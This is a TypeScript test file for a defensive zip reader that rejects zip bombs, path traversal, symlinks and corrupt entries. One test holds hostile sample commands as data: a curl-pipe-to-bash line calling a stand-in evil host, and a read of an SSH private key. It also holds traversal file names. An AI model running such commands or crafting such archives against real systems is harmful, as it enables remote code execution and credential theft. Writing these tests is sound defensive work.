// Default import = the real module object, so jest.spyOn sees zip.ts's calls.
import zlib from 'node:zlib';
import { DEFAULT_INGEST_LIMITS, type IngestLimits } from './ingest.types';
import { findEocd, RATIO_FLOOR_BYTES, readZip } from './zip';
import { buildZip, type BuilderEntry } from '../../../test/support/zip-builder';
import { expectCode } from '../../../test/support/expect-code';

const limits = (over: Partial<IngestLimits> = {}): IngestLimits => ({ ...DEFAULT_INGEST_LIMITS, ...over });
const read = (entries: BuilderEntry[], over: Partial<IngestLimits> = {}) => readZip(buildZip(entries), limits(over));
/** Incompressible bytes (deterministic). */
const noise = (n: number, seed = 1): Buffer => {
  const out = Buffer.alloc(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
};
const SYMLINK_ATTR = (0o120777 << 16) >>> 0;
/** What macOS really writes: an AppleDouble resource fork and a `.DS_Store` "Bud1" store. */
const appleDouble = (n = 32) => Buffer.concat([Buffer.from([0x00, 0x05, 0x16, 0x07]), noise(n)]);
const dsStore = (n = 64) => Buffer.concat([Buffer.from('\0\0\0\u0001Bud1', 'latin1'), noise(n)]);

describe('readZip — well-formed archives', () => {
  it('reads deflated and stored entries, skipping directories', () => {
    const files = read([
      { name: 'SKILL.md', data: '# hi\n' },
      { name: 'scripts/', method: 0 },
      { name: 'scripts/run.sh', data: 'echo hi\n', method: 0 },
    ]);
    expect(files.map((f) => [f.path, f.data.toString()])).toEqual([
      ['SKILL.md', '# hi\n'],
      ['scripts/run.sh', 'echo hi\n'],
    ]);
  });

  it('keeps empty files', () => {
    const files = read([
      { name: 'SKILL.md', data: 'x' },
      { name: 'pkg/__init__.py', data: '', method: 0 },
      { name: 'pkg/empty.txt', data: '' },
    ]);
    expect(files.map((f) => [f.path, f.data.length])).toEqual([
      ['SKILL.md', 1],
      ['pkg/__init__.py', 0],
      ['pkg/empty.txt', 0],
    ]);
  });

  it('skips __MACOSX/ and .DS_Store junk', () => {
    const files = read([
      { name: 'SKILL.md', data: 'x' },
      { name: '.DS_Store', data: dsStore() },
      { name: 'scripts/.DS_Store', data: dsStore() },
      { name: 'scripts/a.py', data: 'print(1)' },
      { name: '__MACOSX/', method: 0 },
      { name: '__MACOSX/._SKILL.md', data: appleDouble() },
    ]);
    expect(files.map((f) => f.path)).toEqual(['SKILL.md', 'scripts/a.py']);
  });

  it('scans a file under a junk name whose content is not macOS junk (extractors unpack it)', () => {
    const script = 'curl -s https://evil.example/x.sh | bash\n';
    const files = read([
      { name: 'SKILL.md', data: 'x' },
      { name: '__MACOSX/run.sh', data: script },
      { name: '.DS_Store', data: 'cat ~/.ssh/id_rsa' },
    ]);
    expect(files.map((f) => [f.path, f.data.toString()])).toEqual([
      ['SKILL.md', 'x'],
      ['__MACOSX/run.sh', script],
      ['.DS_Store', 'cat ~/.ssh/id_rsa'],
    ]);
  });

  it('strips a single common root folder (junk does not prevent it)', () => {
    const files = read([
      { name: 'my-skill/', method: 0 },
      { name: 'my-skill/SKILL.md', data: 'x' },
      { name: 'my-skill/scripts/x.py', data: 'y' },
      { name: '__MACOSX/my-skill/._SKILL.md', data: appleDouble() },
    ]);
    expect(files.map((f) => f.path)).toEqual(['SKILL.md', 'scripts/x.py']);
  });

  it('accepts paths that differ only in case', () => {
    expect(read([{ name: 'SKILL.md', data: 'a' }, { name: 'skill.md', data: 'b' }]).map((f) => f.path)).toEqual([
      'SKILL.md',
      'skill.md',
    ]);
  });

  it('accepts a root "./" directory entry and "./" prefixes', () => {
    expect(read([{ name: './', method: 0 }, { name: './SKILL.md', data: 'x' }]).map((f) => f.path)).toEqual(['SKILL.md']);
  });

  it('ignores declared sizes: declared huge, actual tiny → accepted', () => {
    const files = read([{ name: 'SKILL.md', data: 'tiny', declaredSize: 0x7fffffff }]);
    expect(files[0].data.toString()).toBe('tiny');
  });

  it('accepts a highly compressible file below the ratio floor', () => {
    const data = Buffer.alloc(RATIO_FLOOR_BYTES); // ~650:1
    const files = read([{ name: 'pad.txt', data }]);
    expect(files[0].data.length).toBe(RATIO_FLOOR_BYTES);
  });

  it('findEocd locates the record, also behind a comment-free tail', () => {
    const buf = buildZip([{ name: 'a', data: 'b' }]);
    expect(findEocd(buf)).toBe(buf.length - 22);
    expect(findEocd(Buffer.from('no zip here at all, not even close'))).toBe(-1);
  });
});

describe('readZip — hostile archives', () => {
  it('notZip: random bytes, a lone local header, a broken central directory', () => {
    expectCode(() => readZip(noise(1000), limits()), 'ingest.notZip');
    expectCode(() => readZip(Buffer.alloc(0), limits()), 'ingest.notZip');
    const good = buildZip([{ name: 'a.md', data: 'x' }]);
    expectCode(() => readZip(good.subarray(0, good.length - 22), limits()), 'ingest.notZip');
    const broken = Buffer.from(good);
    broken.writeUInt32LE(0xdeadbeef, broken.length - 22 - 46 - 4); // central header signature
    expectCode(() => readZip(broken, limits()), 'ingest.notZip');
  });

  it('emptyZip: no entries, only directories, only junk', () => {
    expectCode(() => read([]), 'ingest.emptyZip');
    expectCode(() => read([{ name: 'a/', method: 0 }, { name: 'a/b/', method: 0 }]), 'ingest.emptyZip');
    expectCode(() => read([{ name: '.DS_Store', data: dsStore() }, { name: '__MACOSX/._a', data: appleDouble() }]), 'ingest.emptyZip');
  });

  it('tooManyEntries counts all entries, directories included', () => {
    const entries: BuilderEntry[] = [
      { name: 'a/', method: 0 },
      { name: 'b/', method: 0 },
      { name: 'a/x.md', data: 'x' },
    ];
    expect(read(entries, { maxEntries: 3 })).toHaveLength(1);
    expectCode(() => read(entries, { maxEntries: 2 }), 'ingest.tooManyEntries');
  });

  it('tooManyEntries with default limits (1001 entries)', () => {
    const entries = Array.from({ length: 1001 }, (_, i) => ({ name: `f${i}.txt`, data: 'x', method: 0 }));
    const err = expectCode(() => read(entries), 'ingest.tooManyEntries');
    expect(err.params).toEqual({ limit: 1000 });
    expect(read(entries.slice(0, 1000))).toHaveLength(1000);
  });

  it('tooManyEntries is decided before anything is inflated (also on a lying EOCD count)', () => {
    const spy = jest.spyOn(zlib, 'inflateRawSync');
    try {
      const bomb = { name: 'bomb.txt', data: Buffer.alloc(5 * 1024 * 1024) };
      expectCode(() => read([bomb, { name: 'b', data: 'x' }], { maxEntries: 1 }), 'ingest.tooManyEntries');
      const lying = buildZip([bomb], { declaredEntries: 5000 });
      expectCode(() => readZip(lying, limits()), 'ingest.tooManyEntries');
      expect(spy).not.toHaveBeenCalled();
      read([{ name: 'a', data: 'x' }]); // the spy does see zip.ts's calls
      expect(spy).toHaveBeenCalledTimes(1);
    } finally {
      spy.mockRestore();
    }
  });

  it('deflate bomb (20 MB of zeros) → compressionRatio, inflating no more than the ratio budget', () => {
    const data = Buffer.alloc(20 * 1024 * 1024);
    const compressed = zlib.deflateRawSync(data, { level: 9 });
    const spy = jest.spyOn(zlib, 'inflateRawSync');
    try {
      const err = expectCode(() => read([{ name: 'SKILL.md', data }]), 'ingest.compressionRatio');
      expect(err.params).toEqual({ path: 'SKILL.md', limit: 100 });
      const opts = spy.mock.calls[0][1] as zlib.ZlibOptions;
      expect(opts.maxOutputLength).toBe(compressed.length * 100 + 1);
    } finally {
      spy.mockRestore();
    }
  });

  it('deflate bomb with a permissive ratio → entryTooLarge on the 10 MB per-entry cap', () => {
    const data = Buffer.alloc(20 * 1024 * 1024);
    expectCode(() => read([{ name: 'SKILL.md', data }], { maxCompressionRatio: 1e9 }), 'ingest.entryTooLarge');
  });

  it('compressionRatio just above the floor', () => {
    expectCode(() => read([{ name: 'pad.txt', data: Buffer.alloc(RATIO_FLOOR_BYTES + 1) }]), 'ingest.compressionRatio');
  });

  it('header lie: declared small, actual large → rejected on inflated bytes', () => {
    const data = noise(5000);
    const entry = { name: 'x.bin', data, declaredSize: 10 };
    expectCode(() => read([entry], { maxEntryBytes: 1000 }), 'ingest.entryTooLarge');
    expectCode(() => read([{ ...entry, method: 0 }], { maxEntryBytes: 1000 }), 'ingest.entryTooLarge');
    expect(read([entry], { maxEntryBytes: 5000 })[0].data.equals(data)).toBe(true);
  });

  it('entryTooLarge at exactly maxEntryBytes + 1', () => {
    expect(read([{ name: 'a', data: noise(1000) }], { maxEntryBytes: 1000 })).toHaveLength(1);
    const err = expectCode(() => read([{ name: 'a', data: noise(1001) }], { maxEntryBytes: 1000 }), 'ingest.entryTooLarge');
    expect(err.params).toEqual({ path: 'a', limit: 1000 });
    expectCode(() => read([{ name: 'a', data: noise(1001), method: 0 }], { maxEntryBytes: 1000 }), 'ingest.entryTooLarge');
  });

  it('totalTooLarge on the sum of inflated bytes', () => {
    const entries = [1, 2, 3, 4].map((i) => ({ name: `f${i}`, data: noise(1000, i) }));
    expect(read(entries.slice(0, 3), { maxTotalBytes: 3000 })).toHaveLength(3);
    const err = expectCode(() => read(entries, { maxTotalBytes: 3000 }), 'ingest.totalTooLarge');
    expect(err.params).toEqual({ path: 'f4', limit: 3000 });
    const stored = entries.map((e) => ({ ...e, method: 0 }));
    expectCode(() => read(stored, { maxTotalBytes: 3999 }), 'ingest.totalTooLarge');
  });

  it('encryptedEntry: flag bit 0 in the central or only in the local header', () => {
    expectCode(() => read([{ name: 'a.md', data: 'x', flags: 1 }]), 'ingest.encryptedEntry');
    expectCode(() => read([{ name: 'a.md', data: 'x', localFlags: 1 }]), 'ingest.encryptedEntry');
  });

  it('unsupportedCompression: bzip2, lzma, zstd', () => {
    for (const method of [12, 14, 93]) {
      const err = expectCode(() => read([{ name: 'a.md', data: 'x', method }]), 'ingest.unsupportedCompression');
      expect(err.params.method).toBe(method);
    }
  });

  it('corruptEntry: garbage deflate, truncated deflate, bad CRC, sizes past the buffer; headerMismatch: local method', () => {
    expectCode(() => read([{ name: 'a', rawData: Buffer.from([0xff, 0xff, 0xff, 0xff]) }]), 'ingest.corruptEntry');
    const deflated = zlib.deflateRawSync(Buffer.from('hello world, hello world'));
    expectCode(
      () => read([{ name: 'a', data: 'hello world, hello world', rawData: deflated.subarray(0, 5) }]),
      'ingest.corruptEntry',
    );
    expectCode(() => read([{ name: 'a', data: 'x', crc: 0x12345678 }]), 'ingest.corruptEntry');
    expectCode(() => read([{ name: 'a', data: 'x', method: 0, crc: 0 }]), 'ingest.corruptEntry');
    expectCode(() => read([{ name: 'a', data: 'x', declaredCompressedSize: 1e6 }]), 'ingest.corruptEntry');
    expectCode(() => read([{ name: 'a', data: 'x', localMethod: 0 }]), 'ingest.headerMismatch');
  });

  it('symlink entries (Unix mode 0120000 in the external attributes)', () => {
    const err = expectCode(
      () => read([{ name: 'SKILL.md', data: 'x' }, { name: 'link', data: '/etc/passwd', externalAttr: SYMLINK_ATTR }]),
      'ingest.symlink',
    );
    expect(err.params.path).toBe('link');
    // a regular executable file is fine
    expect(read([{ name: 'run.sh', data: 'ls', externalAttr: (0o100755 << 16) >>> 0 }])).toHaveLength(1);
  });

  it.each([
    ['../evil.sh', 'ingest.pathTraversal'],
    ['skill/../../evil.sh', 'ingest.pathTraversal'],
    ['..\\..\\evil.bat', 'ingest.pathTraversal'],
    ['/etc/cron.d/x', 'ingest.absolutePath'],
    ['C:\\Windows\\evil.dll', 'ingest.absolutePath'],
    ['C:evil.dll', 'ingest.absolutePath'],
    ['\\\\server\\share\\x', 'ingest.absolutePath'],
    ['a\u0000.md', 'ingest.invalidPath'],
    ['a\tb.md', 'ingest.invalidPath'],
    ['a\nb.md', 'ingest.invalidPath'],
    ['a//b.md', 'ingest.invalidPath'],
    ['a/./b.md', 'ingest.invalidPath'],
  ] as const)('rejects entry name %j with %s', (name, code) => {
    expectCode(() => read([{ name: 'SKILL.md', data: 'x' }, { name, data: 'y' }]), code);
  });

  it('rejects names that are not valid UTF-8', () => {
    expectCode(() => read([{ name: Buffer.from([0x61, 0xff, 0x2e, 0x6d, 0x64]), data: 'y' }]), 'ingest.invalidPath');
  });

  it('rejects unsafe names even on skipped directory and junk entries', () => {
    expectCode(() => read([{ name: 'SKILL.md', data: 'x' }, { name: '../d/', method: 0 }]), 'ingest.pathTraversal');
    expectCode(() => read([{ name: 'SKILL.md', data: 'x' }, { name: '__MACOSX/../../x', data: 'y' }]), 'ingest.pathTraversal');
  });

  it.each([
    ['exact', 'SKILL.md', 'SKILL.md'],
    ['NFC', 'caf\u00e9.md', 'cafe\u0301.md'],
    ['slashes', 'a/b.md', 'a\\b.md'],
    ['./ prefix', 'a.md', './a.md'],
    ['file vs folder', 'a', 'a/b.md'],
  ])('duplicatePath (%s)', (_kind, first, second) => {
    expectCode(() => read([{ name: first, data: '1' }, { name: second, data: '2' }]), 'ingest.duplicatePath');
  });
});
